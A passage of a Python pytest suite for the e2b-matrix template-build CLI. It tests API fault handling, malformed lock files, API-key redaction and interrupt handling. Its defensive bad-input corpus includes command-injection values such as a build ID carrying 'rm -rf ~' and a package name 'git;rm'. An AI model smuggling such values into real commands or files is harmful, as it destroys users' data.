"""The reliability suite: faults, bad input, secrets and signals.

1. A fault matrix: each fault the E2B API can throw at a run (through the real
   e2b SDK against the E2B emulator (e2b_matrix.emulator), through the CLI) with its expected
   outcome; after each, the lock holds exactly the variants that built.
2. A corpus of bad lock files and bad ``--set`` parameters: exit 2, one line
   naming the file and the key, no traceback, nothing written, no API call.
3. A canary API key through a failing, retried, -vv run: it is nowhere.
4. SIGINT and SIGTERM: exit 130, finished builds stay in a lock that parses.

Every part prints its figures (run with ``pytest -s`` to see them).
"""

from __future__ import annotations

import itertools
import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import pytest

from conftest import cli_runner, sigint_default, snapshot, wait_for, write
from e2b_matrix.cli import cli
from e2b_matrix.emulator import E2BEmulator
from e2b_matrix.lock import TemplateLock

ALIASES = {
    "full": "nexus-sandbox-full",
    "latest": "nexus-sandbox-latest",
    "minimal": "nexus-sandbox-minimal",
    "pinned": "nexus-sandbox-pinned",
}
ALL = set(ALIASES)


def sdk_requests_per_call() -> int:
    """Requests the SDK's own transport makes for one call answered 502/503/504 throughout."""
    from e2b.connection_config import DEFAULT_RETRIES

    return 1 + DEFAULT_RETRIES


def new_key() -> str:
    return "e2b_" + uuid.uuid4().hex + uuid.uuid4().hex[:8]  # shaped like E2B's: e2b_ + 40 hex


@pytest.fixture
def emu(monkeypatch):
    with E2BEmulator(api_key=new_key()) as e:
        for k, v in e.env().items():
            monkeypatch.setenv(k, v)
        monkeypatch.setenv("E2B_MATRIX_RETRY_BASE_S", "0.05")
        monkeypatch.setenv("E2B_MATRIX_RETRY_MAX_DELAY_S", "0.2")
        yield e


def stamp_requests(emu: E2BEmulator) -> list[tuple[float, str, int]]:
    """(monotonic time, route, status) of every request the emulator answers from now on."""
    stamps: list[tuple[float, str, int]] = []
    router = emu._router
    record = router._record

    def recording(h, path, route, status):
        stamps.append((time.monotonic(), route, status))
        record(h, path, route, status)

    router._record = recording
    return stamps


def invoke(project: Path, *args):
    start = time.monotonic()
    r = cli_runner().invoke(cli, ["-C", str(project), *args])
    return r, time.monotonic() - start


def lock_aliases(project: Path) -> set[str]:
    path = project / "templates.lock"
    return {e.alias for e in TemplateLock.load(path)} if path.exists() else set()


def statuses(result) -> dict[str, dict]:
    return {x["name"]: x for x in json.loads(result.stdout)}


def assert_lock_is_the_successes(project: Path, results: dict[str, dict]) -> None:
    built = {ALIASES[n] for n, x in results.items() if x["status"] in ("built", "fresh")}
    assert lock_aliases(project) == built
    for name, x in results.items():
        if x["status"] == "built":
            entry = TemplateLock.load(project / "templates.lock").entry(name)
            assert (entry.template_id, entry.build_id) == (x["template_id"], x["build_id"])


# --------------------------------------------------------------------------- 1. the fault matrix

SLOW = 0.5  # seconds a slow answer takes (the SDK's request timeout is 60 s)
RETRY_AFTER = 1  # seconds; E2B sends whole seconds

# id -> (injections, extra env, extra CLI args, expected status per variant, exit code)
FAULTS = {
    # 4 answers of 429: one more than the SDK's own retries, so our policy waits too
    "429-retry-after": (
        [("request_build", {"status": 429, "count": 4, "retry_after": RETRY_AFTER})],
        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "2"},
        ["--jobs", "1"],
        dict.fromkeys(ALL, "built"),
        0,
    ),
    "429-retry-after-above-max-delay": (
        [("request_build", {"status": 429, "count": 4, "retry_after": RETRY_AFTER})],
        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "0.2"},
        ["--jobs", "1"],
        dict.fromkeys(ALL, "built"),
        0,
    ),
    "500-burst": (
        [("request_build", {"status": 500, "count": 3}), ("status", {"status": 500, "count": 3})],
        {},
        [],
        dict.fromkeys(ALL, "built"),
        0,
    ),
    "502-burst": (
        [("request_build", {"status": 502, "count": 6}), ("status", {"status": 502, "count": 6})],
        {},
        [],
        dict.fromkeys(ALL, "built"),
        0,
    ),
    "503-burst": (
        [("request_build", {"status": 503, "count": 6}), ("status", {"status": 503, "count": 6})],
        {},
        [],
        dict.fromkeys(ALL, "built"),
        0,
    ),
    # --jobs 1 builds full first, so full meets the whole burst: 2 attempts x the SDK's requests
    "burst-beyond-budget": (
        [("request_build", {"status": 503, "count": 2 * sdk_requests_per_call()})],
        {"E2B_MATRIX_RETRY_ATTEMPTS": "2"},
        ["--jobs", "1"],
        {"full": "failed", "latest": "built", "minimal": "built", "pinned": "built"},
        1,
    ),
    "reset-request-build": ([("request_build", {"reset": True, "count": 3})], {}, [], dict.fromkeys(ALL, "built"), 0),
    "reset-status": ([("status", {"reset": True, "count": 3})], {}, [], dict.fromkeys(ALL, "built"), 0),
    "slow-responses": (
        [("request_build", {"delay": SLOW, "count": 4}), ("status", {"delay": SLOW, "count": 4})],
        {},
        [],
        dict.fromkeys(ALL, "built"),
        0,
    ),
}

FAULT_PARAMS = list(FAULTS)


@pytest.mark.parametrize("fault", FAULT_PARAMS)
def test_fault_matrix(project, emu, monkeypatch, fault):
    injections, env, args, expected, code = FAULTS[fault]
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    injected = {}
    for route, kw in injections:
        emu.inject(route, **kw)
        key = (route, 0 if kw.get("reset") else kw.get("status"))
        injected[key] = injected.get(key, 0) + kw["count"]
    if "--jobs" in args:  # serial runs: short builds keep the case within a few seconds
        for alias in ALIASES.values():
            emu.configure(alias, duration=0.05)
    stamps = stamp_requests(emu)

    r, elapsed = invoke(project, "build-all", "--json", *args)

    results = statuses(r)
    attempts = {n: x["attempts"] for n, x in results.items()}
    print(
        f"\n[fault {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s requests={emu.request_count} "
        f"builds={len(emu.builds)} attempts={attempts} "
        f"injected={ {f'{k[0]}:{k[1]}': v for k, v in injected.items()} }"
    )
    assert r.exit_code == code, r.output
    assert {n: x["status"] for n, x in results.items()} == expected
    assert emu.pending_faults == 0, "every injected fault was met"
    for (route, status), n in injected.items():
        if status is not None:
            assert emu.count(route, status) == n
    assert_lock_is_the_successes(project, results)
    # what the lock records is a build E2B finished, not one it cancelled
    by_id = {b.build_id: b for b in emu.builds}
    for x in results.values():
        if x["status"] == "built":
            assert by_id[x["build_id"]].status == "ready" and not by_id[x["build_id"]].cancelled

    if fault.startswith("429"):
        # --jobs 1: one client at a time, so each 429 is followed by its own retry. The SDK
        # retries 3 times as Retry-After says; when it gives up, ours retries with its own
        # backoff (the SDK's public API does not hand the header on: docs/scheduling.md says so).
        gaps = [later[0] - t for (t, _, status), later in itertools.pairwise(stamps) if status == 429]
        print(f"[fault {fault}] waits after 429 (Retry-After {RETRY_AFTER}s): " + ", ".join(f"{g:.2f}s" for g in gaps))
        assert len(gaps) == 4
        assert attempts["full"] == 2, "the SDK gave up after its retries; ours retried once more"
        assert min(gaps[:3]) >= RETRY_AFTER, "the SDK retried before the server's Retry-After"
        assert elapsed >= 3 * RETRY_AFTER
    elif fault == "500-burst":
        # the SDK never retries a 500: each on request_build costs one attempt of ours;
        # those while polling are retried in place, never by submitting again
        assert sum(attempts.values()) == len(ALL) + 3
        assert len(emu.builds) == len(ALL)
    elif fault == "burst-beyond-budget":
        assert "gave up after 2 attempts" in results["full"]["error"]
        assert not any(b.name == ALIASES["full"] for b in emu.builds)
        assert attempts["full"] == 2
    elif fault.startswith("reset"):
        route = fault.removeprefix("reset-").replace("-", "_")
        assert emu.count(route, 0) == 3
        if route == "request_build":
            assert sum(attempts.values()) > len(ALL), "a reset connection was retried"
        else:  # retried in place: no second build of any alias
            assert set(attempts.values()) == {1} and len(emu.builds) == len(ALL)
    elif fault == "slow-responses":
        assert elapsed >= SLOW
        assert set(attempts.values()) == {1}, "a slow answer is not an error: no retry"


@pytest.mark.parametrize("fault", [{"status": 500}, {"reset": True}], ids=["status-500", "status-reset"])
def test_a_blip_while_polling_does_not_restart_the_build(project, emu, fault):
    alias = ALIASES["minimal"]
    emu.configure(alias, duration=1.0)
    emu.inject("status", count=1, **fault)
    r, elapsed = invoke(project, "build", "minimal", "--json")
    builds = [b for b in emu.builds if b.name == alias]
    print(
        f"\n[fault poll-blip {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s builds of {alias}: "
        f"{len(builds)} ({sum(b.cancelled for b in builds)} cancelled) attempts={statuses(r)['minimal']['attempts']}"
    )
    assert r.exit_code == 0, r.output
    assert emu.pending_faults == 0
    assert len(builds) == 1 and not builds[0].cancelled, "the poll was retried, not the build"


def test_fault_build_failing_at_a_step(project, emu):
    """A build E2B reports failed is not retried; its old lock entry stays; the others land."""
    r, _ = invoke(project, "build-all")
    assert r.exit_code == 0, r.output
    before = TemplateLock.load(project / "templates.lock")
    for name in ("pinned", "full"):  # make both stale
        f = project / f"variants/{name}.toml"
        f.write_text(f.read_text().replace("cpu_count = 2", "cpu_count = 4"))
    emu.configure(ALIASES["pinned"], fail_at_step=2, fail_message="apt-get exploded")
    builds_before = len(emu.builds)

    r, elapsed = invoke(project, "build-all", "--json")

    results = statuses(r)
    print(
        f"\n[fault build-fails-at-step] exit={r.exit_code} elapsed={elapsed:.2f}s "
        f"statuses={ {n: x['status'] for n, x in results.items()} } "
        f"pinned error={results['pinned']['error']!r}"
    )
    assert r.exit_code == 1, r.output
    assert {n: x["status"] for n, x in results.items()} == {
        "full": "built",
        "latest": "fresh",
        "minimal": "fresh",
        "pinned": "failed",
    }
    assert results["pinned"]["attempts"] == 1
    assert "apt-get exploded" in results["pinned"]["error"] and "step 3" in results["pinned"]["error"]
    new = list(emu.builds[builds_before:])
    assert sorted(b.name for b in new) == [ALIASES["full"], ALIASES["pinned"]], "pinned submitted once, not retried"
    after = TemplateLock.load(project / "templates.lock")
    assert after.entry("pinned") == before.entry("pinned")
    assert after.entry("full") != before.entry("full")
    assert after.entry("full").build_id == results["full"]["build_id"]
    assert after.entry("latest") == before.entry("latest") and after.entry("minimal") == before.entry("minimal")
    assert lock_aliases(project) == set(ALIASES.values())  # the successes, and the failure's old entry


VICTIM_S = 30.0  # the victim's own length: a run that ends before it saw the cancel, on any machine


def test_fault_cancelled_by_a_newer_build_of_the_same_alias(project, emu):
    """Another machine builds our alias with our build tag while we build it: E2B cancels ours when it
    starts its own (a tag they share); ours is not resubmitted and the rest land."""
    victim = ALIASES["latest"]
    emu.configure(victim, duration=VICTIM_S)
    intruder: list[str] = []
    problems: list[str] = []

    def api(path: str, body: dict) -> dict:
        req = urllib.request.Request(
            f"{emu.url}{path}",
            method="POST",
            data=json.dumps(body).encode(),
            headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"},
        )
        with urllib.request.urlopen(req, timeout=5) as resp:
            text = resp.read()
        return json.loads(text) if text else {}

    def intrude() -> None:
        """Wait for our build of the victim to run, then request and start a build of the same alias
        with the same tags through the API (as a second e2b-matrix on another machine would)."""
        try:
            ours = wait_for(
                lambda: [b for b in emu.builds if b.name == victim and b.status == "building"],
                timeout=10,
                what="our build of the victim to start",
            )
        except pytest.fail.Exception as failed:  # this thread cannot fail the test: the test reports it
            problems.append(str(failed))
            return
        made = api("/v3/templates", {"name": victim, "tags": ours[0].tags, "cpuCount": 2, "memoryMB": 1024})
        api(
            f"/v2/templates/{made['templateID']}/builds/{made['buildID']}",
            {"fromTemplate": "code-interpreter-v1", "steps": []},
        )
        intruder.append(made["buildID"])

    thread = threading.Thread(target=intrude)  # the CLI must run in the main thread (it sets signal handlers)
    thread.start()
    r, elapsed = invoke(project, "build-all", "--json")
    thread.join(15)
    assert not problems, problems
    assert intruder, "the intruding build was not requested"
    intruder = intruder[0]

    results = statuses(r)
    ours = [b for b in emu.builds if b.name == victim and b.build_id != intruder]
    print(
        f"\n[fault cancelled-by-newer-build] exit={r.exit_code} elapsed={elapsed:.2f}s "
        f"statuses={ {n: x['status'] for n, x in results.items()} } latest error={results['latest']['error']!r}"
    )
    assert r.exit_code == 1, r.output
    assert {n: x["status"] for n, x in results.items()} == {
        "full": "built",
        "latest": "failed",
        "minimal": "built",
        "pinned": "built",
    }
    assert len(ours) == 1 and ours[0].cancelled, "ours was cancelled and not resubmitted"
    assert "build was cancelled" in results["latest"]["error"]
    assert results["latest"]["attempts"] == 1
    assert elapsed < VICTIM_S, "the cancel was seen before the victim's own end"
    assert_lock_is_the_successes(project, results)
    assert victim not in lock_aliases(project)


def test_a_bare_build_of_our_alias_elsewhere_cancels_nothing_and_moves_no_pin(project, emu):
    """Our builds carry only tags of their own: a bare build of the alias (default) cancels none of them."""
    victim = ALIASES["minimal"]
    emu.configure(victim, duration=1.0)
    done = threading.Event()
    problems: list[str] = []

    def intrude() -> None:
        try:
            wait_for(
                lambda: any(b.name == victim and b.status == "building" for b in emu.builds),
                timeout=10,
                what="our build of the victim to start",
            )
        except pytest.fail.Exception as failed:  # this thread cannot fail the test: the test reports it
            problems.append(str(failed))
            return
        body = json.dumps({"name": victim, "cpuCount": 2, "memoryMB": 1024}).encode()
        req = urllib.request.Request(
            f"{emu.url}/v3/templates",
            method="POST",
            data=body,
            headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"},
        )
        made = json.loads(urllib.request.urlopen(req, timeout=5).read())
        req = urllib.request.Request(
            f"{emu.url}/v2/templates/{made['templateID']}/builds/{made['buildID']}",
            method="POST",
            headers={"X-API-KEY": emu.api_key},
            data=json.dumps({"fromTemplate": "code-interpreter-v1", "steps": []}).encode(),
        )
        urllib.request.urlopen(req, timeout=5).read()
        done.set()

    thread = threading.Thread(target=intrude)
    thread.start()
    r, _ = invoke(project, "build", "minimal", "--json")
    thread.join(15)
    assert not problems, problems
    assert done.is_set() and r.exit_code == 0, r.output
    assert TemplateLock.load(project / "templates.lock").entry("minimal").build_id == statuses(r)["minimal"]["build_id"]


# --------------------------------------------------------------------------- 2. bad input corpus

ENTRY = (
    '[templates.nexus-sandbox-latest]\nvariant = "latest"\ntemplate_id = "tpl"\nbuild_id = "b"\n'
    'fingerprint = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"\nlayers = { base = "1", nexus = "0.9.26" }\nbuilt_at = 2026-11-26T17:00:00Z\n'
)
HEAD = "# Generated by e2b-matrix; do not edit. Regenerate: make build-all\nschema = 1\n\n"
T = "templates.nexus-sandbox-latest"


def entry(**change) -> str:
    """A lock whose one entry has keys changed (value: TOML text) or removed (value: None)."""
    lines = []
    for line in ENTRY.splitlines():
        key = line.split(" = ")[0]
        if key in change:
            if change[key] is not None:
                lines.append(f"{key} = {change.pop(key)}")
            else:
                change.pop(key)
        else:
            lines.append(line)
    lines += [f"{k} = {v}" for k, v in change.items() if v is not None]
    return HEAD + "\n".join(lines) + "\n"


# (id, lock file content, fragments the one stderr line must contain besides the file's path)
LOCK_CASES = [
    ("toml-syntax", "schema = \n", ["invalid TOML", "line 1"]),
    ("toml-torn", HEAD + ENTRY[:120], ["invalid TOML", "at end of document"]),
    ("toml-duplicate-key", HEAD + ENTRY + 'variant = "again"\n', ["invalid TOML", "line 11"]),
    ("toml-duplicate-table", HEAD + ENTRY + "\n" + ENTRY, ["invalid TOML", "line 12"]),
    ("bom", "\ufeff" + HEAD + ENTRY, ["starts with a UTF-8 byte-order mark (an invisible U+FEFF)"]),
    ("not-utf8", b"schema = 1\n# \xff\xfe\n", ["not UTF-8 text (line 2)"]),
    ("empty-file", "", ["schema: missing"]),
    ("schema-missing", ENTRY, ["schema: missing"]),
    ("schema-3", "schema = 3\n", ["schema: ", "schema 3"]),
    ("schema-3-with-entries", HEAD.replace("schema = 1", "schema = 3") + ENTRY, ["schema: ", "schema 3"]),
    ("schema-0", "schema = 0\n", ["schema: unsupported schema 0"]),
    ("schema-string", 'schema = "1"\n', ["schema: expected an integer, got a string"]),
    ("schema-float", "schema = 1.0\n", ["schema: expected an integer, got a float"]),
    ("schema-bool", "schema = true\n", ["schema: expected an integer, got a boolean"]),
    ("templates-not-table", "schema = 1\ntemplates = 1\n", ["templates: expected a table, got an integer"]),
    ("templates-array", "schema = 1\ntemplates = []\n", ["templates: expected a table, got an array"]),
    (
        "entry-not-table",
        'schema = 1\n[templates]\nnexus-sandbox-latest = "tpl"\n',
        [f"{T}: expected a table, got a string"],
    ),
    *[
        (f"missing-{k}", entry(**{k: None}), [f"{T}.{k}: missing"])
        for k in ("variant", "template_id", "build_id", "fingerprint", "layers", "built_at")
    ],
    ("variant-integer", entry(variant="1"), [f"{T}.variant: expected a string, got an integer"]),
    ("template-id-integer", entry(template_id="12"), [f"{T}.template_id: expected a string, got an integer"]),
    ("template-id-empty", entry(template_id='""'), [f"{T}.template_id: must not be empty"]),
    # values a shell or a server would trip on: `resolve` would print two lines or a blank one
    ("template-id-newline", entry(template_id='"tpl\\nx"'), [f"{T}.template_id: must be one word"]),
    ("template-id-spaces", entry(template_id='"   "'), [f"{T}.template_id: must be one word"]),
    ("template-id-quote", entry(template_id="'tp\"l'"), [f"{T}.template_id: must be one word"]),
    ("build-id-newline", entry(build_id='"b\\r\\n"'), [f"{T}.build_id: must be one word"]),
    ("build-id-semicolon", entry(build_id='"b; rm -rf ~"'), [f"{T}.build_id: must be one word"]),
    (
        "history-build-id-tab",
        HEAD + ENTRY + '[[templates.nexus-sandbox-latest.history]]\nbuild_id = "a\\tb"\n'
        'fingerprint = "sha256:ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"\nbuilt_at = 2026-11-26T17:00:00Z\n',
        [f"{T}.history[0].build_id: must be one word"],
    ),
    ("channels-not-table", entry(channels='"stable"'), [f"{T}.channels: expected a table, got a string"]),
    ("build-id-array", entry(build_id='["b"]'), [f"{T}.build_id: expected a string, got an array"]),
    ("fingerprint-bool", entry(fingerprint="false"), [f"{T}.fingerprint: expected a string, got a boolean"]),
    ("domain-integer", entry(domain="443"), [f"{T}.domain: expected a string, got an integer"]),
    ("image-table", entry(image="{ a = 1 }"), [f"{T}.image: expected a string, got a table"]),
    (
        "built-at-naive",
        entry(built_at="2026-11-26T17:00:00"),
        [f"{T}.built_at:", "got a local date-time (no timezone)"],
    ),
    ("built-at-date", entry(built_at="2026-11-26"), [f"{T}.built_at:", "got a date"]),
    ("built-at-time", entry(built_at="17:00:00"), [f"{T}.built_at:", "got a time"]),
    ("built-at-string", entry(built_at='"2026-11-26T17:00:00Z"'), [f"{T}.built_at:", "got a string"]),
    ("layers-string", entry(layers='"base=1"'), [f"{T}.layers: expected a table, got a string"]),
    ("layers-array", entry(layers='["base"]'), [f"{T}.layers: expected a table, got an array"]),
    ("layer-version-integer", entry(layers="{ base = 1 }"), [f"{T}.layers.base: expected a string, got an integer"]),
    ("inputs-string", entry(inputs='"x"'), [f"{T}.inputs: expected a table, got a string"]),
    ("inputs-nested", entry(inputs='{ a = { b = "c" } }'), [f"{T}.inputs.a: expected a string, got a table"]),
    (
        "second-entry-bad",
        HEAD
        + ENTRY
        + "\n"
        + ENTRY.replace("latest]", "pinned]")
        .replace('variant = "latest"', 'variant = "pinned"')
        .replace("17:00:00Z", "17:00:00"),
        ["templates.nexus-sandbox-pinned.built_at:"],
    ),
]

LOCK_COMMANDS = [["lock", "show"], ["lock", "check"], ["plan"], ["resolve", "latest"], ["build-all"]]


@pytest.mark.parametrize("case_id,content,fragments", LOCK_CASES, ids=[c[0] for c in LOCK_CASES])
def test_bad_lock_file(project, emu, case_id, content, fragments):
    lock = project / "templates.lock"
    lock.write_bytes(content if isinstance(content, bytes) else content.encode())
    before = snapshot(project)
    for command in LOCK_COMMANDS:
        r, _ = invoke(project, *command)
        err = r.stderr.strip().splitlines()
        where = f"{case_id} / {' '.join(command)}: {r.stderr!r}"
        assert r.exit_code == 2, where
        assert len(err) == 1, where
        assert err[0].startswith(f"e2b-matrix: error: {lock}: "), where
        for fragment in fragments:
            assert fragment in err[0], where
        assert "Traceback" not in r.output, where
        assert r.exception is None or isinstance(r.exception, SystemExit), where
        assert r.stdout == "", where
        assert snapshot(project) == before, where
    assert emu.request_count == 0


# (--set value, fragment of the one stderr line)
SET_CASES = [
    ("nexus", "--set: 'nexus' is not LAYER.PARAM=VALUE"),
    ("=1", "--set: '=1' is not LAYER.PARAM=VALUE"),
    ("nexus.=1", "--set: 'nexus.=1' is not LAYER.PARAM=VALUE"),
    ("nope.x=1", "--set: unknown layer 'nope'"),
    ("nexus.v=1", "--set: unknown parameter 'nexus.v' (layer nexus takes: version)"),
    ("fuse.x=1", "--set: unknown parameter 'fuse.x' (layer fuse takes: none)"),
    ("nexus.version=abc", '--set: nexus.version: expected "latest" or an exact version'),
    ("nexus.version=", '--set: nexus.version: expected "latest" or an exact version'),
    ("nexus.version=0.10.1", "params.nexus.version: nexus-ai-fs 0.10.1 requires Python >=3.14, but the base's Python"),
    ("nexus.version=9.9.9", "params.nexus.version: nexus-ai-fs 9.9.9 is not a release in the package index"),
    ("base.python=3", "--set: base.python: expected a Python version like \"3.12\", got '3'"),
    ("base.python=2.7", "--set: base.python: expected a Python version like \"3.12\", got '2.7'"),
    ("base.image=", "--set: base.image: must not be empty"),
    ("extra-tools.packages=git;rm", "--set: extra-tools.packages: 'git;rm' is not a package name"),
    ("extra-tools.packages=[1,2]", "--set: extra-tools.packages: 1 is not a package name"),
    ("extra-tools.pip_packages=a b", "--set: extra-tools.pip_packages: 'a b' is not a package name"),
    ("base.template=Bad Name!", "--set: base.template: 'Bad Name!' is not an E2B template name or ID"),
]


@pytest.mark.parametrize("value,expected", SET_CASES)
def test_bad_set_on_build_all(project, emu, value, expected):
    before = snapshot(project)
    r, _ = invoke(project, "build-all", "--set", value)
    err = r.stderr.strip().splitlines()
    assert emu.request_count == 0, f"an API request was made for --set {value!r}"
    assert r.exit_code == 2, r.output
    assert len(err) == 1 and err[0].startswith("e2b-matrix: error: ") and expected in err[0], err
    assert "Traceback" not in r.output
    assert snapshot(project) == before
    assert not (project / "logs").exists() and not (project / "templates.lock").exists()


def test_bad_input_corpus_size():
    import test_config_errors

    here = len(LOCK_CASES) + len(SET_CASES)
    there = len(test_config_errors.CASES)
    print(
        f"\n[bad input] lock files: {len(LOCK_CASES)} (x {len(LOCK_COMMANDS)} commands = "
        f"{len(LOCK_CASES) * len(LOCK_COMMANDS)} runs), --set on build-all: {len(SET_CASES)}, "
        f"test_config_errors.py: {there}; total cases: {here + there}"
    )
    assert here + there >= 40
    assert len(LOCK_CASES) >= 20


# --------------------------------------------------------------------------- 3. the canary key


@pytest.mark.parametrize("source", ["env", "e2b-config"])
def test_canary_key_is_nowhere(project, emu, source):
    """The key is offered to every output (a failure message, a 500 body, 429 bodies, -vv) and is in none."""
    key = emu.api_key
    secret = key.removeprefix("e2b_")
    emu.configure(ALIASES["pinned"], fail_at_step=1, fail_message=f"boom: bad token {key} in step")
    emu.inject("status", status=500, count=2, body={"code": 500, "message": f"oops {key}"})
    # 4 clients x the SDK's 4 requests: every first submission ends in a 429 that reaches our retry policy
    emu.inject(
        "request_build",
        status=429,
        count=4 * sdk_requests_per_call(),
        retry_after=0,
        body={"code": 429, "message": f"slow down {key}"},
    )
    env = {**os.environ, **emu.env(), "E2B_MATRIX_RETRY_ATTEMPTS": "8"}
    if source == "e2b-config":  # what `e2b auth login` writes
        del env["E2B_API_KEY"]
        write(Path(env["HOME"]) / ".e2b/config.json", json.dumps({"teamApiKey": key, "email": "a@b.c"}))
    p = subprocess.run(
        [sys.executable, "-m", "e2b_matrix", "-C", str(project), "-vv", "build-all"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    files = {str(f.relative_to(project)): f.read_bytes() for f in project.rglob("*") if f.is_file()}
    print(
        f"\n[canary, key from {source}] exit={p.returncode} stdout={len(p.stdout)} chars, stderr={len(p.stderr)} chars, "
        f"files checked={len(files)} ({', '.join(sorted(files))})"
    )
    assert p.returncode == 1, p.stderr
    # the leaks were offered: the failure, the 500 body and the 429s reached the output, redacted
    out = p.stdout + p.stderr
    assert "boom: bad token" in out and "oops" in out and "slow down" in out
    assert "DEBUG" in p.stderr, "-vv shows debug lines"
    assert emu.count("request_build", 429) == 4 * sdk_requests_per_call() and emu.count("status", 500) == 2
    for name, text in [("stdout", p.stdout), ("stderr", p.stderr)]:
        assert secret not in text, f"the key is in {name}"
    assert any(n.startswith("logs/") for n in files) and "templates.lock" in files
    for name, data in files.items():
        assert secret.encode() not in data, f"the key is in {name}"
    assert b"boom: bad token" in files[f"logs/{ALIASES['pinned']}.log"]


# --------------------------------------------------------------------------- 4. Ctrl-C and SIGTERM


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_interrupt_keeps_finished_builds(project, emu, sig):
    fast = ALIASES["minimal"]
    emu.configure(fast, duration=0.2)
    for alias in set(ALIASES.values()) - {fast}:
        emu.configure(alias, duration=30)
    lock = project / "templates.lock"
    # --no-share: these variants share steps and would wait for each other (test_share.py covers that)
    p = subprocess.Popen(
        [sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--no-share"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ},
        preexec_fn=sigint_default,
    )
    try:

        def fast_landed() -> bool:
            assert p.poll() is None, p.communicate()
            return lock.exists() and fast in lock_aliases(project)

        wait_for(fast_landed, timeout=30, what="the fast build to reach the lock")
        assert any(b.status == "building" for b in emu.builds if b.name != fast)
        sent = time.monotonic()
        p.send_signal(sig)
        _out, err = p.communicate(timeout=20)
    finally:
        if p.poll() is None:
            p.kill()
            p.communicate()
    took = time.monotonic() - sent
    print(f"\n[{sig.name}] exit={p.returncode} after {took:.2f}s; lock: {sorted(lock_aliases(project))}")
    assert p.returncode == 130, err
    assert lock_aliases(project) == {fast}, "the finished build stays, the others are absent"
    assert TemplateLock.load(lock).entry("minimal").template_id == emu.template_id(fast)
    assert "interrupted" in err and "Traceback" not in err
    assert not list(project.glob(".templates.lock.*.tmp")), "no temp file left behind"
    assert took < 10, "stopped polling at once"


# --------------------------------------------------------------------------- 5. what an adversarial user tries


def assert_refused(project: Path, emu, args, expected: str, env=None, before=None):
    """Exit 2, one line naming the file, key or variable, no traceback, nothing on disk changed, no request."""
    before = snapshot(project) if before is None else before
    r = cli_runner().invoke(cli, ["-C", str(project), *args], env=env)
    err = r.stderr.strip().splitlines()
    where = f"{args} -> {r.exit_code}: {r.output!r}"
    assert r.exit_code == 2, where
    assert len(err) == 1 and err[0].startswith("e2b-matrix: error: "), where
    assert expected in err[0], where
    assert "Traceback" not in r.output and (r.exception is None or isinstance(r.exception, SystemExit)), where
    assert snapshot(project) == before, where
    assert emu.request_count == 0, where
    return err[0]


@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r", " ", "\t\r\n"])
def test_a_key_with_whitespace_around_it_is_stripped_and_never_shown(project, emu, monkeypatch, ending):
    """A key file saved by a Windows editor: the key is used without its line ending, and shown nowhere."""
    monkeypatch.setenv("E2B_API_KEY", emu.api_key + ending)
    r = cli_runner().invoke(cli, ["-C", str(project), "-vv", "build", "minimal", "--json"])
    assert r.exit_code == 0, r.output
    secret = emu.api_key.removeprefix("e2b_")
    assert secret not in r.output and secret[:12] not in r.output
    assert secret.encode() not in b"".join(v for v in snapshot(project).values() if isinstance(v, bytes))


def test_a_key_from_the_e2b_config_is_stripped_too(project, emu, monkeypatch):
    import os as _os

    monkeypatch.delenv("E2B_API_KEY")
    write(Path(_os.environ["HOME"]) / ".e2b/config.json", json.dumps({"teamApiKey": emu.api_key + "\r\n"}))
    r = cli_runner().invoke(cli, ["-C", str(project), "build", "minimal", "--json"])
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize(
    "key", ["e2b_abc def0123456789", "e2b_abc\x01def0123456789", "e2b_abc\ndef0123456789", "e2b_abcdéf0123456789"]
)
def test_a_key_with_something_odd_inside_is_refused_naming_where_it_came_from(project, emu, key):
    line = assert_refused(
        project,
        emu,
        ["build", "minimal"],
        "E2B_API_KEY: the key has a space, control or non-ASCII character inside it (not shown)",
        env={"E2B_API_KEY": key},
    )
    assert "abc" not in line and "0123456789" not in line


def test_a_key_in_the_config_with_something_odd_inside_names_the_file(project, emu, monkeypatch):
    import os as _os

    monkeypatch.delenv("E2B_API_KEY")
    config = Path(_os.environ["HOME"]) / ".e2b/config.json"
    write(config, json.dumps({"teamApiKey": "e2b_abc\u0007def0123456789"}))
    line = assert_refused(project, emu, ["build", "minimal"], f"{config}: teamApiKey: the key has a space")
    assert "abc" not in line


@pytest.mark.parametrize("key", ["", "   ", "\r\n", "\t"])
def test_a_blank_key_is_no_key(project, emu, key):
    assert_refused(
        project,
        emu,
        ["build-all"],
        "no E2B API key: set E2B_API_KEY, or run `e2b auth login`",
        env={"E2B_API_KEY": key},
    )
    assert not (project / "logs").exists()


CONTROL = [
    (
        "alias-newline",
        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-sandbox-x\\n"\nlayers = ["base"]\n'},
        "variants/x.toml: variant.alias: contains a control character (\\n)",
    ),
    (
        "name-cr",
        {"variants/x.toml": '[variant]\nname = "x\\r"\nalias = "nexus-x"\nlayers = ["base"]\n'},
        "variants/x.toml: variant.name: contains a control character (\\r)",
    ),
    (
        "tag-tab",
        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["a\\tb"]\n'},
        "variants/x.toml: variant.tags[0]: contains a control character (\\t)",
    ),
    (
        "tag-default",
        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["default"]\n'},
        "variants/x.toml: variant.tags: 'default' is the channel a bare alias means",
    ),
    (
        "tag-uuid",
        {
            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
            'tags = ["0f1c2d3e-0000-4000-8000-000000000001"]\n'
        },
        "variants/x.toml: variant.tags: '0f1c2d3e-0000-4000-8000-000000000001' looks like a UUID",
    ),
    (
